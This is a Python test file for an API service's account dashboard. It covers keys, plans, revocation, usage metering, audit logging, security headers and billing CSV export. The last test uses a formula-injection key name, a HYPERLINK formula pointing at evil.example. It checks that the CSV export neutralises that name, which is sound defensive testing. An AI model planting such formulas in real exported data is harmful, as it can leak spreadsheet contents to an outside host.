"""The dashboard: keys, plans, revocation, usage and the audit log, against the live API."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from propdata.accounts.keys import CustomLimits
from propdata.plans import PLANS
from tests.portal.conftest import Person, new_key_of, other


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def rows(page: str) -> list[str]:
    return re.findall(r'<article class="key[^"]*" data-testid="key-row".*?</article>', page, re.S)


def usage(row: str, which: str) -> str:
    found = re.search(rf'data-testid="usage-{which}">([^<]+)<', row)
    assert found, row[:500]
    return found.group(1)


def key_id(row: str) -> str:
    found = re.search(r'data-key-id="([^"]+)"', row)
    assert found
    return found.group(1)


def free_row(found: list[str]) -> str:
    (free,) = [key_id(r) for r in found if 'badge plan">Free' in r and 'key revoked"' not in r]
    return free


async def signed_up(person: Person, address: str) -> str:
    await person.sign_up(address)
    key = new_key_of((await person.client.get("/dashboard")).text)
    assert key
    return key


async def verify(person: Person) -> None:
    page = await person.client.get(person.link("verify"))
    assert page.status_code == 200 and "confirmed" in page.text


async def test_plan_change_takes_effect_on_the_next_request(person: Person) -> None:
    key = await signed_up(person, "hal@example.com")
    kid = key_id(rows((await person.client.get("/dashboard")).text)[0])
    first = await person.client.get("/v1/properties/t-000", headers=bearer(key))
    assert first.headers["x-ratelimit-limit"] == "10"
    # paid plans need a confirmed address
    refused = await person.submit("/dashboard", f"/dashboard/keys/{kid}/plan", plan="pro")
    assert refused.status_code == 400 and 'data-testid="form-error"' in refused.text
    await verify(person)
    changed = await person.submit("/dashboard", f"/dashboard/keys/{kid}/plan", plan="pro")
    assert changed.status_code == 303
    after = await person.client.get("/v1/properties/t-000", headers=bearer(key))
    assert (
        after.headers["x-ratelimit-limit"] == "500" and after.headers["x-quota-limit"] == "100000"
    )
    page = (await person.client.get("/dashboard")).text
    # The Free request counted in the account's Free windows; on Pro the key has its own.
    assert usage(rows(page)[0], "minute") == "1 / 500"
    assert usage(rows(page)[0], "day") == "1 / 100,000"
    # Enterprise is not self-service
    enterprise = await person.submit("/dashboard", f"/dashboard/keys/{kid}/plan", plan="enterprise")
    assert enterprise.status_code == 400


async def test_keys_create_name_revoke_and_limits(person: Person) -> None:
    key = await signed_up(person, "ivy@example.com")
    # a second Free key is refused while one is active: the page offers no form, says why
    page = (await person.client.get("/dashboard")).text
    assert 'action="/dashboard/keys"' not in page and 'data-testid="limit-reached"' in page
    assert "“Default key” is yours" in page and "confirm your email address first" in page
    second = await person.submit("/dashboard", "/dashboard/keys", name="staging")
    assert second.status_code == 400 and "Free" in second.text
    await verify(person)
    kid = key_id(rows((await person.client.get("/dashboard")).text)[0])
    await person.submit("/dashboard", f"/dashboard/keys/{kid}/plan", plan="developer")
    page = (await person.client.get("/dashboard")).text
    assert 'action="/dashboard/keys"' in page and 'data-testid="limit-reached"' not in page
    made = await person.submit("/dashboard", "/dashboard/keys", name="staging <b>server</b>")
    assert made.status_code == 303
    page = (await person.client.get("/dashboard")).text
    new = new_key_of(page)
    assert new and new != key
    assert "staging &lt;b&gt;server&lt;/b&gt;" in page  # escaped, never markup
    assert len(rows(page)) == 2
    # revoke the first: its next request is 401 revoked_api_key
    revoked = await person.submit("/dashboard", f"/dashboard/keys/{kid}/revoke")
    assert revoked.status_code == 303
    answer = await person.client.get("/v1/properties/t-000", headers=bearer(key))
    assert answer.status_code == 401 and answer.json()["error"]["code"] == "revoked_api_key"
    assert (await person.client.get("/v1/properties/t-000", headers=bearer(new))).status_code == 200
    # ten active keys at most (each new one is Free: move it to Developer to make the next)
    for i in range(9):
        free = free_row(rows((await person.client.get("/dashboard")).text))
        moved = await person.submit("/dashboard", f"/dashboard/keys/{free}/plan", plan="developer")
        assert moved.status_code == 303
        made = await person.submit("/dashboard", "/dashboard/keys", name=f"k{i}")
        assert made.status_code == 303, i
    eleventh = await person.submit("/dashboard", "/dashboard/keys", name="one too many")
    assert eleventh.status_code == 400 and "10" in eleventh.text
    page = (await person.client.get("/dashboard")).text
    assert 'action="/dashboard/keys"' not in page and "at most 10 active keys" in page


async def test_someone_elses_key_is_not_found(person: Person, fresh: Any) -> None:
    await signed_up(person, "jay@example.com")
    kid = key_id(rows((await person.client.get("/dashboard")).text)[0])
    other_client, _, _ = await fresh(cache_ttl=0)
    second = other(person, other_client)
    await second.sign_up("kim@example.com")
    attempt = await second.submit("/dashboard", f"/dashboard/keys/{kid}/revoke")
    assert attempt.status_code == 404
    page = (await person.client.get("/dashboard")).text
    assert 'data-testid="key-status">active' in page


async def test_a_new_key_reads_never_used_until_it_is(person: Person) -> None:
    key = await signed_up(person, "lou@example.com")
    first = " ".join(rows((await person.client.get("/dashboard")).text)[0].split())
    assert "· never used" in first and "last used" not in first
    assert (await person.client.get("/v1/properties/t-000", headers=bearer(key))).status_code == 200
    row = " ".join(rows((await person.client.get("/dashboard")).text)[0].split())
    assert "last used within the last hour" in row


async def test_usage_counts_what_the_metering_counts(person: Person, fresh: Any) -> None:
    key = await signed_up(person, "lee@example.com")
    headers = bearer(key)
    for _ in range(3):
        assert (await person.client.get("/v1/properties/t-000", headers=headers)).status_code == 200
    assert (await person.client.get("/v1/properties/nope", headers=headers)).status_code == 404
    assert (await person.client.get("/v1/auth/status", headers=headers)).status_code == 200
    person.clock.advance(3 * 3600)
    assert (await person.client.get("/v1/properties/t-000", headers=headers)).status_code == 200
    page = (await person.client.get("/dashboard")).text
    row = rows(page)[0]
    assert usage(row, "minute") == "1 / 10"
    assert usage(row, "day") == "4 / 100"
    chart = re.search(r'data-testid="usage-chart".*?</figure>', row, re.S)
    assert chart
    counts = [int(n) for n in re.findall(r'data-count="(\d+)"', chart.group(0))]
    assert len(counts) == 24 + 30
    assert sorted(c for c in counts[:24] if c) == [1, 3]  # two hours with requests
    assert sum(counts[24:]) == 4 and sum(counts[:24]) == 4
    # a cache hit is not counted either
    cached_client, clock, _ = await fresh(cache_ttl=60)
    clock.now = person.clock.now
    for _ in range(3):
        assert (await cached_client.get("/v1/properties/t-001", headers=headers)).status_code == 200
    row = rows((await person.client.get("/dashboard")).text)[0]
    assert usage(row, "day") == "5 / 100"


async def test_audit_log_shows_the_accounts_changes(person: Person) -> None:
    await signed_up(person, "max@example.com")
    await verify(person)
    kid = key_id(rows((await person.client.get("/dashboard")).text)[0])
    await person.submit("/dashboard", f"/dashboard/keys/{kid}/plan", plan="developer")
    await person.submit("/dashboard", f"/dashboard/keys/{kid}/revoke")
    entries = await person.accounts().audit_of(await person.accounts().by_email("max@example.com"))
    actions = [(e.action, e.from_value, e.to_value) for e in reversed(entries)]
    assert actions == [
        ("account.created", None, "max@example.com"),
        ("key.created", None, "free"),
        ("key.plan", "free", "developer"),
        ("key.revoked", "active", "revoked"),
    ]
    assert all(e.actor == "max@example.com" and e.client for e in entries)
    page = (await person.client.get("/dashboard")).text
    assert "key.plan" in page and "developer" in page


async def test_pages_carry_the_security_headers_and_no_rate_headers(person: Person) -> None:
    key = await signed_up(person, "ned@example.com")
    for path in ("/", "/signup", "/login", "/forgot", "/dashboard"):
        page = await person.client.get(path)
        assert page.status_code == 200, path
        assert page.headers["content-type"].startswith("text/html")
        assert "default-src 'self'" in page.headers["content-security-policy"]
        assert page.headers["x-content-type-options"] == "nosniff"
        assert page.headers["referrer-policy"] == "same-origin"
        assert page.headers["x-frame-options"] == "DENY"
        assert page.headers["x-request-id"].startswith("req_")
        assert not any(h.startswith("x-ratelimit") for h in page.headers), path
        assert "https://" not in re.sub(r'https?://[^"\s]*/v1', "", page.text.split("<body")[0])
    # the pages never count against a key
    status = await person.client.get("/v1/auth/status", headers=bearer(key))
    assert status.json()["data"]["usage"]["minute"]["used"] == 0


async def test_home_lists_the_four_plans(person: Person) -> None:
    page = (await person.client.get("/")).text
    for plan in PLANS:
        row = page[page.index(f'<th scope="row">{plan.title}</th>') :].split("</tr>")[0]
        cells = re.findall(r"<td[^>]*>([^<]*)</td>", row)
        assert cells == [
            f"{plan.per_minute:,}", "Unlimited" if plan.daily is None else f"{plan.daily:,}",
            f"{plan.default_page_size} / {plan.max_page_size:,}",
            "Custom" if plan.price_usd is None else str(plan.price_usd),
        ], plan.name  # fmt: skip
    for text in ('href="/signup"', 'href="/login"', 'href="/docs"'):
        assert text in page, text


async def test_free_windows_belong_to_the_account(person: Person) -> None:
    """Revoking a Free key and making another gives no new room (one Free key at a time)."""
    key = await signed_up(person, "una@example.com")
    for _ in range(6):
        assert (await person.client.get("/v1/properties/t-000", headers=bearer(key))).is_success
    kid = key_id(rows((await person.client.get("/dashboard")).text)[0])
    assert (await person.submit("/dashboard", f"/dashboard/keys/{kid}/revoke")).status_code == 303
    assert (await person.submit("/dashboard", "/dashboard/keys", name="again")).status_code == 303
    again = new_key_of((await person.client.get("/dashboard")).text)
    assert again and again != key
    status = (await person.client.get("/v1/auth/status", headers=bearer(again))).json()["data"]
    assert status["usage"]["minute"]["used"] == 6, status
    answers = [
        (await person.client.get("/v1/properties/t-000", headers=bearer(again))).status_code
        for _ in range(6)
    ]
    assert answers == [200] * 4 + [429] * 2  # ten a minute, the revoked key's six included


async def test_a_paid_plan_is_confirmed_on_its_own_page_then_the_dashboard_says_so(
    person: Person,
) -> None:
    key = await signed_up(person, "pat@example.com")
    kid = key_id(rows((await person.client.get("/dashboard")).text)[0])
    dashboard = (await person.client.get("/dashboard")).text
    assert f'action="/dashboard/keys/{kid}/plan" method="get"' in dashboard
    await verify(person)
    confirm = await person.client.get(f"/dashboard/keys/{kid}/plan?plan=pro")
    assert confirm.status_code == 200
    text = " ".join(confirm.text.split())
    assert "$199" in text and "500" in text and "100,000" in text
    assert f'action="/dashboard/keys/{kid}/plan" method="post"' in confirm.text
    # nothing changed yet
    before = await person.client.get("/v1/auth/status", headers=bearer(key))
    assert before.json()["data"]["plan"] == "free"
    done = await person.submit(
        f"/dashboard/keys/{kid}/plan?plan=pro", f"/dashboard/keys/{kid}/plan", plan="pro"
    )
    assert done.status_code == 303
    after = (await person.client.get("/dashboard")).text
    assert 'data-testid="notice"' in after and "Pro" in after.split('data-testid="notice"')[1][:300]
    assert (await person.client.get("/v1/auth/status", headers=bearer(key))).json()["data"][
        "plan"
    ] == "pro"
    for bad in ("enterprise", "gold"):
        assert (
            await person.client.get(f"/dashboard/keys/{kid}/plan?plan={bad}")
        ).status_code == 400
    assert (await person.client.get("/dashboard/keys/key_nope/plan?plan=pro")).status_code == 404


async def test_billing_shows_each_keys_plan_days_and_their_cost(person: Person) -> None:
    # The test clock starts on 2027-01-15 at 08:00 UTC.
    await signed_up(person, "bo@example.com")
    await verify(person)
    kid = key_id(rows((await person.client.get("/dashboard")).text)[0])
    person.clock.advance(5 * 86_400)  # Jan 20, 08:00
    assert (
        await person.submit("/dashboard", f"/dashboard/keys/{kid}/plan", plan="pro")
    ).status_code == 303
    person.clock.advance(10 * 86_400)
    assert (await person.client.get("/dashboard")).status_code == 200  # not idle
    person.clock.advance(11 * 86_400)  # Feb 10, 08:00
    page = await person.client.get("/dashboard/billing")
    assert page.status_code == 200, page.text[-1500:]
    found = [" ".join(re.sub(r"<[^>]+>", " ", r).split())
             for r in re.findall(r'<tr data-testid="billing-row".*?</tr>', page.text, re.S)]  # fmt: skip
    assert found == [
        f"Default key {kid} 2027-02 Pro 9.3 $199 $66.33",
        f"Default key {kid} 2027-01 Free 5.0 $0 $0.00",
        f"Default key {kid} 2027-01 Pro 11.7 $199 $74.89",
    ], found
    csv_file = await person.client.get("/dashboard/billing.csv")
    assert csv_file.status_code == 200 and csv_file.headers["content-type"].startswith("text/csv")
    assert "attachment" in csv_file.headers["content-disposition"]
    lines = csv_file.text.strip().splitlines()
    assert lines[0] == "keyId,name,month,plan,days,priceUsdPerMonth,costUsd"
    assert f"{kid},Default key,2027-01,pro,11.667,199,74.89" in lines
    await person.submit("/dashboard", "/logout")
    away = await person.client.get("/dashboard/billing", follow_redirects=False)
    assert away.status_code == 303 and away.headers["location"] == "/login"


async def test_the_billing_csv_writes_a_formula_like_key_name_as_text(person: Person) -> None:
    """A key's name is the account holder's text: in the download it never runs as a
    formula in the spreadsheet that opens it; numbers stay numbers."""
    await signed_up(person, "cy@example.com")
    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    await person.accounts().create_key_for("cy@example.com", "pro", name, CustomLimits(), "ops")
    person.clock.advance(86_400)  # the test clock's January 15 to 16
    download = await person.client.get("/dashboard/billing.csv")
    rows = list(csv.reader(io.StringIO(download.text, newline="")))
    assert rows[0] == ["keyId", "name", "month", "plan", "days", "priceUsdPerMonth", "costUsd"]
    (hostile,) = [row for row in rows if row[3] == "pro"]
    assert hostile[1] == "'" + name
    assert hostile[4:] == ["1.000", "199", f"{199 / 31:.2f}"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
